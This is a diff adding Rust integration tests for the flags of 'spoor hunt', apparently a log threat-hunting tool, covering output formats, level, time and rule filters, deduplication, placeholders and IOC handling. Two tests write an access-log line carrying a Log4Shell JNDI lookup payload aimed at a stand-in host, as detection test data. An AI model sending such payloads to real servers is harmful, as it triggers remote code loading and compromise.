@@ -1,0 +1,240 @@
+//! Every `spoor hunt` flag that changes what is read, hunted or written, each checked for its
+//! effect (issue 17: the binary's flags had no tests).
+
+mod common;
+
+use common::{jsonl, spoor};
+use serde_json::Value;
+use std::path::{Path, PathBuf};
+
+fn examples() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/logs")
+}
+
+fn hunt(args: &[&str], paths: &[&Path]) -> (i32, Vec<Value>) {
+    let out = spoor()
+        .args(["hunt", "-f", "jsonl"])
+        .args(args)
+        .args(paths)
+        .output()
+        .unwrap();
+    (out.status.code().unwrap_or(-1), jsonl(&out.stdout))
+}
+
+fn findings(lines: &[Value]) -> Vec<&Value> {
+    lines.iter().filter(|l| l.get("rule").is_some()).collect()
+}
+
+#[test]
+fn extra_outputs_are_written_in_their_formats() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = |n: &str| dir.path().join(n);
+    let (code, lines) = hunt(
+        &[
+            "--html",
+            p("r.html").to_str().unwrap(),
+            "--navigator",
+            p("n.json").to_str().unwrap(),
+            "--csv",
+            p("f.csv").to_str().unwrap(),
+            "--jsonl",
+            p("f.jsonl").to_str().unwrap(),
+        ],
+        &[&examples()],
+    );
+    assert_eq!(code, 0);
+    let n = findings(&lines).len();
+    let html = std::fs::read_to_string(p("r.html")).unwrap();
+    assert!(html.starts_with("<!DOCTYPE html>"));
+    assert_eq!(html.matches("<tr data-level=").count(), n);
+    let nav: Value = serde_json::from_str(&std::fs::read_to_string(p("n.json")).unwrap()).unwrap();
+    assert!(nav["techniques"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|t| t["techniqueID"] == "T1190"));
+    let csv = std::fs::read_to_string(p("f.csv")).unwrap();
+    assert_eq!(csv.lines().count(), n + 1, "header and one row per finding");
+    let again = std::fs::read_to_string(p("f.jsonl")).unwrap();
+    assert_eq!(again.lines().count(), n + 1);
+}
+
+#[test]
+fn output_file_and_threads() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("o.jsonl");
+    let status = spoor()
+        .args(["hunt", "-j", "1", "-o"])
+        .arg(&out)
+        .arg(examples())
+        .output()
+        .unwrap();
+    assert_eq!(status.status.code(), Some(0));
+    assert!(
+        status.stdout.is_empty(),
+        "findings go to the file, not stdout"
+    );
+    let lines = jsonl(&std::fs::read(&out).unwrap());
+    assert_eq!(findings(&lines).len(), 49);
+}
+
+#[test]
+fn level_time_and_rule_filters() {
+    let (_, all) = hunt(&[], &[&examples()]);
+    let (_, high) = hunt(&["--min-level", "high"], &[&examples()]);
+    let high = findings(&high);
+    assert!(!high.is_empty() && high.len() < findings(&all).len());
+    assert!(high
+        .iter()
+        .all(|f| matches!(f["rule"]["level"].as_str(), Some("high" | "critical"))));
+    let (_, window) = hunt(
+        &[
+            "--from",
+            "2024-07-12T10:00:00Z",
+            "--to",
+            "2024-07-12T11:00:00Z",
+        ],
+        &[&examples()],
+    );
+    let window = findings(&window);
+    assert!(!window.is_empty());
+    assert!(window.iter().all(|f| {
+        let t = f["timestamp"].as_str().unwrap();
+        ("2024-07-12T10:00:00Z"..="2024-07-12T11:00:00Z").contains(&t)
+    }));
+    let id = "bdfcbb1d-a32d-46ec-81a3-93ad79d2fde5";
+    let (_, one) = hunt(&["--rule-id", id], &[&examples()]);
+    let one = findings(&one);
+    assert!(!one.is_empty());
+    assert!(one.iter().all(|f| f["rule"]["id"] == id));
+}
+
+#[test]
+fn no_dedup_keeps_every_copy() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("access.log");
+    let line = "203.0.113.9 - - [12/Jul/2024:10:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"x\"\n";
+    std::fs::write(&log, line.repeat(3)).unwrap();
+    let (_, merged) = hunt(&[], &[&log]);
+    let (_, every) = hunt(&["--no-dedup"], &[&log]);
+    assert_eq!(findings(&merged).len(), 1);
+    assert_eq!(findings(&merged)[0]["count"], 3);
+    assert_eq!(findings(&every).len(), 3);
+}
+
+#[test]
+fn placeholders_fill_expand_rules() {
+    let dir = tempfile::tempdir().unwrap();
+    let rule = dir.path().join("admins.yml");
+    std::fs::write(&rule, "title: Admin logon\nid: 33333333-3333-3333-3333-333333333333\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4624\n    TargetUserName|expand: '%admins%'\n  condition: sel\n").unwrap();
+    let ph = dir.path().join("ph.yml");
+    std::fs::write(&ph, "admins: [administrator]\n").unwrap();
+    let log = examples().join("windows-events.jsonl");
+    let r = rule.to_str().unwrap();
+    // Without values the rule is unsupported, so nothing is left to hunt with.
+    let (code, without) = hunt(&["--no-builtin", "-r", r], &[&log]);
+    assert_eq!((code, without.len()), (2, 0));
+    let (_, with) = hunt(
+        &[
+            "--no-builtin",
+            "-r",
+            r,
+            "--placeholders",
+            ph.to_str().unwrap(),
+        ],
+        &[&log],
+    );
+    let f = findings(&with);
+    assert_eq!(f.len(), 1, "the one 4624 of administrator");
+    assert_eq!(f[0]["source"]["line"], 110);
+}
+
+#[test]
+fn syslog_year_wins() {
+    let (_, lines) = hunt(&["--syslog-year", "2019"], &[&examples().join("auth.log")]);
+    let f = findings(&lines);
+    assert!(!f.is_empty());
+    assert!(f
+        .iter()
+        .all(|f| f["timestamp"].as_str().unwrap().starts_with("2019-")));
+}
+
+#[test]
+fn glob_exclude_and_forced_format() {
+    let dir = tempfile::tempdir().unwrap();
+    let line = "203.0.113.9 - - [12/Jul/2024:10:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"x\"\n";
+    std::fs::write(dir.path().join("a.log"), line).unwrap();
+    std::fs::write(dir.path().join("b.txt"), line).unwrap();
+    std::fs::write(dir.path().join("c.log"), line).unwrap();
+    let files = |lines: &[Value]| -> Vec<String> {
+        let mut v: Vec<String> = lines.last().unwrap()["summary"]["files"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| {
+                f["path"]
+                    .as_str()
+                    .unwrap()
+                    .rsplit('/')
+                    .next()
+                    .unwrap()
+                    .to_string()
+            })
+            .collect();
+        v.sort();
+        v
+    };
+    let (_, g) = hunt(&["--glob", "*.log", "--exclude", "c.log"], &[dir.path()]);
+    assert_eq!(files(&g), vec!["a.log"]);
+    let noise = dir.path().join("noise.dat");
+    std::fs::write(&noise, "not a log at all\nreally not\n").unwrap();
+    let (code, forced) = hunt(&["--format-in", "access"], &[&noise]);
+    assert_eq!(code, 0, "forced: every line counted unparsed, no error");
+    assert_eq!(forced.last().unwrap()["summary"]["unparsed"], 2);
+}
+
+#[test]
+fn bad_arguments_exit_2_and_a_closed_pipe_exits_0() {
+    let out = spoor()
+        .args(["hunt", "--min-level", "severe"])
+        .arg(examples())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("severe"));
+    // A reader that goes away after nothing: spoor stops quietly with 0.
+    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("spoor"))
+        .args(["hunt", "-f", "jsonl", "--no-dedup"])
+        .arg(examples())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    assert_eq!(child.wait().unwrap().code(), Some(0));
+}
+
+#[test]
+fn many_bad_indicators_are_counted_not_listed() {
+    let dir = tempfile::tempdir().unwrap();
+    let list = dir.path().join("bad.csv");
+    let mut text = String::from("type,value,description\n");
+    for i in 0..30_000 {
+        text.push_str(&format!("ipv4,999.1.2.{i},broken\n"));
+    }
+    std::fs::write(&list, text).unwrap();
+    let (_, lines) = hunt(
+        &["--iocs", list.to_str().unwrap()],
+        &[&examples().join("auth.log")],
+    );
+    let s = &lines.last().unwrap()["summary"];
+    assert_eq!(s["rules_invalid"], 30_000);
+    let named = s["warnings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|w| w.as_str().unwrap().contains("bad.csv"))
+        .count();
+    assert_eq!(named, 21, "20 named and one line counting the rest");
+    assert!(s.to_string().len() < 64 * 1024);
+}
